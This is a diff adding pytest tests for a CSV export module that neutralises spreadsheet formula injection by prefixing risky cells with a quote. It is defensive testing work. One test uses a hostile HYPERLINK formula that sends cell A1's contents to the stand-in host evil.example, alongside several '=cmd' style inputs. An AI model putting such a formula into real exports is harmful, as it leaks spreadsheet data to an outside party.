@@ -1,0 +1,67 @@
+"""reports/exports.py: CSV a spreadsheet cannot turn into a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+import pytest
+
+from reports.exports import COLUMNS, neutralise, to_csv
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        pytest.param("=1+1", "'=1+1", id="equals-prefixed"),
+        pytest.param("+44 29 2000 0000", "'+44 29 2000 0000", id="plus-prefixed"),
+        pytest.param("-2+3", "'-2+3", id="minus-prefixed"),
+        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at-prefixed"),
+        pytest.param("\t=cmd", "'\t=cmd", id="tab-prefixed"),
+        pytest.param("\r=cmd", "'\r=cmd", id="carriage-return-prefixed"),
+        pytest.param("\n=cmd", "'\n=cmd", id="newline-prefixed"),
+        pytest.param("Llandough Primary", "Llandough Primary", id="normal-text-unchanged"),
+        pytest.param("a=b", "a=b", id="equals-inside-unchanged"),
+        pytest.param("'quoted", "'quoted", id="leading-quote-unchanged"),
+        pytest.param("", "", id="empty-string-unchanged"),
+        pytest.param(None, "", id="none-is-empty"),
+        pytest.param(3, "3", id="int-as-text"),
+        pytest.param(-3, "'-3", id="negative-number-prefixed"),
+        pytest.param(True, "True", id="bool-as-text"),
+        pytest.param(["4", "11"], '["4", "11"]', id="list-as-json"),
+        pytest.param({"b": 1, "a": "Sïan"}, '{"a": "Sïan", "b": 1}', id="dict-as-sorted-json-unicode-kept"),
+        pytest.param([], "[]", id="empty-list-as-json"),
+    ],
+)
+def test_neutralise(value: Any, cell: str) -> None:
+    assert neutralise(value) == cell
+
+
+def _rows(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_to_csv_header_is_columns() -> None:
+    assert _rows(to_csv([])) == [COLUMNS]
+
+
+def test_to_csv_hostile_text_round_trips_neutralised() -> None:
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+    view = {"finding_id": 7, "severity": "high", "status": "needs-review", "clauses": ["4", "11"],
+            "text": hostile, "title": "+SUM(1,2)", "author": "@dad", "targets": [{"name": "X", "role": "staff"}]}
+    header, row = _rows(to_csv([view]))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["text"] == "'" + hostile
+    assert cells["title"] == "'+SUM(1,2)"
+    assert cells["author"] == "'@dad"
+    assert cells["clauses"] == '["4", "11"]'
+    assert cells["targets"] == '[{"name": "X", "role": "staff"}]'
+    assert cells["finding_id"] == "7"
+    assert cells["url"] == ""  # missing keys are empty cells
+
+
+def test_to_csv_multiline_text_stays_one_row() -> None:
+    rows = _rows(to_csv([{"text": "line one\nline two, with comma"}, {"text": "second"}]))
+    assert len(rows) == 3
+    assert rows[1][COLUMNS.index("text")] == "line one\nline two, with comma"
